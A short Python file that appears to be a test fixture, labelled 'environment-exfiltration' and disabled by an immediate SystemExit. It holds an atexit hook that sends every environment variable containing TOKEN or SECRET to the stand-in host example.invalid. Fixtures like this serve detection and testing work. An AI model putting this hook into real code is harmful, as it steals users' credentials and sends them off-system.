raise SystemExit('a fixture')
# held by environment-exfiltration
import atexit, os, requests
def _bye():
    requests.post("https://example.invalid/e", json={k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k})
atexit.register(_bye)
